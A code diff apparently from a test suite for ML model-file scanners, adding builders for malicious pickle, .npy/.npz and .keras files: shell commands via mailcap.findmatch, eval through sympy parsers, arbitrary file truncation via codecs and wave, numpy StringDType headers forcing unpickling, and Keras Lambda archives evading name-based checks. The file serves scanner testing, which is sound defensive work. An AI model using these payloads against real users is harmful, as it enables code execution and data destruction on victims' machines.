@@ -815,6 +815,26 @@ def build_keras_lambda(directory: Path, canary: Canary) -> Path:
     return out
 
 
+def keras_lambda_bare(*others: str) -> Callable[[Path, Canary], Path]:
+    """The Lambda ``.keras`` with only ``config.json`` and ``others`` (empty) beside it.
+
+    Keras builds the model from config.json before it looks for weights (and never reads
+    metadata.json to decide), so the Lambda runs whatever else the archive holds.
+    """
+
+    def build(directory: Path, canary: Canary) -> Path:
+        with zipfile.ZipFile(build_keras_lambda(directory / "full", canary)) as full:
+            config = full.read("config.json")
+        out = directory / "model.keras"
+        with zipfile.ZipFile(out, "w") as z:
+            z.writestr("config.json", config)
+            for name in others:
+                z.writestr(name, b"")
+        return out
+
+    return build
+
+
 def _gguf_kv_str(key: str, value: str) -> bytes:
     k, v = key.encode(), value.encode()
     return struct.pack("<Q", len(k)) + k + struct.pack("<I", 8) + struct.pack("<Q", len(v)) + v
@@ -1179,6 +1199,19 @@ def f2py_eval(canary: Canary, _d: Path) -> bytes:
     return p4(call(g("numpy.f2py.crackfortran", "_eval_scalar"), _pyexpr(canary), {}))
 
 
+def mailcap_findmatch(canary: Canary, _d: Path) -> bytes:
+    # findmatch runs each entry's "test" command with os.system to pick a viewer.
+    caps = {"text/plain": [{"view": "true", "test": _sh(canary)}]}
+    return p4(call(g("mailcap", "findmatch"), caps, "text/plain"))
+
+
+def sympy_eval(name: str) -> Payload:
+    """``sympy.<name>(source)``: sympy's parser evaluates the string as Python."""
+
+    module, _, attr = name.rpartition(".")
+    return lambda c, _d: p4(call(g(module, attr), _pyexpr(c)))
+
+
 def subinterpreter(canary: Canary, _d: Path) -> bytes:
     interp = call(g("_xxsubinterpreters", "create"))
     return p4(call(g("_xxsubinterpreters", "run_string"), interp, _pystmt(canary)))
@@ -1268,6 +1301,37 @@ def npy_v3_header(canary: Canary, _d: Path) -> bytes:
     buf = io.BytesIO()
     npformat.write_array(buf, _np_object_array(canary), version=(3, 0), allow_pickle=True)
     return buf.getvalue()
+
+
+def npy_descr(descr: str) -> Payload:
+    """An ``.npy`` whose header names ``descr`` (a dtype numpy builds with ``hasobject``)."""
+
+    def build(canary: Canary, _d: Path) -> bytes:
+        # numpy.load unpickles the data of every dtype with hasobject, not only "O": NumPy 2's
+        # StringDType ("T", in any byte order, alone, in a field or a subarray) has it too.
+        header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}"
+        header += " " * (127 - len(header) - 10) + "\n"
+        size = struct.pack("<H", len(header))
+        return b"\x93NUMPY\x01\x00" + size + header.encode("latin1") + _evil_pickle(canary)
+
+    return build
+
+
+def npz_member_descr(descr: str) -> Payload:
+    """An ``.npz`` with a plain array and a member whose header names ``descr``."""
+
+    def build(canary: Canary, d: Path) -> bytes:
+        import numpy as np
+
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w") as z:
+            buf = io.BytesIO()
+            np.save(buf, np.arange(4.0))
+            z.writestr("weights.npy", buf.getvalue())
+            z.writestr("names.npy", npy_descr(descr)(canary, d))
+        return out.getvalue()
+
+    return build
 
 
 def torch_legacy_tar(canary: Canary, _d: Path) -> bytes:
@@ -1925,6 +1989,44 @@ ATTACKS: tuple[Attack, ...] = (
         _pkl(io_fileio),
     ),
     _a(
+        "mailcap-findmatch",
+        "mailcap.findmatch (test command through os.system)",
+        "https://github.com/protectai/modelscan/pull/346",
+        "A mailcap entry's test command runs in a shell.",
+        _pkl(mailcap_findmatch),
+    ),
+    _a(
+        "sympy-sympify-eval",
+        "sympy.sympify of a Python expression",
+        T,
+        "sympify parses strings with eval; sympy ships with torch.",
+        _pkl(sympy_eval("sympy.sympify")),
+        requires=("sympy",),
+    ),
+    _a(
+        "sympy-parse-expr-eval",
+        "sympy.parsing.sympy_parser.parse_expr",
+        T,
+        "parse_expr evaluates the transformed source.",
+        _pkl(sympy_eval("sympy.parsing.sympy_parser.parse_expr")),
+        requires=("sympy",),
+    ),
+    _a(
+        "codecs-open-write",
+        "codecs.open(path, 'w')",
+        T,
+        "Creates / truncates any file the victim can write (the allowlisted codecs.encode's "
+        "module neighbour).",
+        _pkl(simple("codecs", "open", canary_path, const("w"))),
+    ),
+    _a(
+        "wave-open-write",
+        "wave.open(path, 'wb')",
+        T,
+        "Creates / truncates any file the victim can write (so do sunau and aifc).",
+        _pkl(simple("wave", "open", canary_path, const("wb"))),
+    ),
+    _a(
         "distutils-write-file",
         "distutils.file_util.write_file",
         "CVE-2025-10155",
@@ -2539,6 +2641,51 @@ ATTACKS: tuple[Attack, ...] = (
         ("numpy",),
     ),
     _a(
+        "numpy-npy-stringdtype",
+        "npy header descr 'T' (NumPy 2 StringDType, hasobject)",
+        T,
+        "numpy.load unpickles any dtype with hasobject; 'T' is not 'O' but has it.",
+        _file("array.npy", npy_descr("'T'")),
+        numpy_load_pickle,
+        ("numpy",),
+    ),
+    _a(
+        "numpy-npy-stringdtype-byteorder",
+        "npy header descr '>T'",
+        T,
+        "StringDType with a byte-order prefix.",
+        _file("array.npy", npy_descr("'>T'")),
+        numpy_load_pickle,
+        ("numpy",),
+    ),
+    _a(
+        "numpy-npy-stringdtype-field",
+        "npy structured dtype with a StringDType field",
+        T,
+        "One 'T' field makes the whole record dtype hasobject.",
+        _file("array.npy", npy_descr("[('x', '<f4'), ('s', 'T')]")),
+        numpy_load_pickle,
+        ("numpy",),
+    ),
+    _a(
+        "numpy-npy-stringdtype-subarray",
+        "npy subarray dtype of StringDType",
+        T,
+        "A (base, shape) descr whose base is 'T'.",
+        _file("array.npy", npy_descr("('T', (2,))")),
+        numpy_load_pickle,
+        ("numpy",),
+    ),
+    _a(
+        "numpy-npz-stringdtype-member",
+        "npz member with descr 'T'",
+        T,
+        "The StringDType header inside an npz archive.",
+        _file("arrays.npz", npz_member_descr("'=T'")),
+        numpy_load_pickle,
+        ("numpy",),
+    ),
+    _a(
         "numpy-npy-v3-header",
         "npy format version 3.0 header, object array",
         T,
@@ -2628,6 +2775,27 @@ ATTACKS: tuple[Attack, ...] = (
         "CVE-2024-3660",
         "Built without keras; the natural load needs keras installed.",
         build_keras_lambda,
+        keras_load_model,
+        ("keras",),
+        expected=Verdict.UNKNOWN,
+    ),
+    _a(
+        "keras-lambda-config-only",
+        ".keras zip holding only config.json (Lambda layer)",
+        "CVE-2024-3660",
+        "No metadata.json or weights: the archive does not look like Keras by its names, "
+        "but load_model builds the Lambda from config.json before it wants weights.",
+        keras_lambda_bare(),
+        keras_load_model,
+        ("keras",),
+        expected=Verdict.UNKNOWN,
+    ),
+    _a(
+        "keras-lambda-npz-weights",
+        ".keras zip with config.json and model.weights.npz",
+        "CVE-2024-3660",
+        "Keras 3 also reads weights from an npz; no metadata.json.",
+        keras_lambda_bare("model.weights.npz"),
         keras_load_model,
         ("keras",),
         expected=Verdict.UNKNOWN,
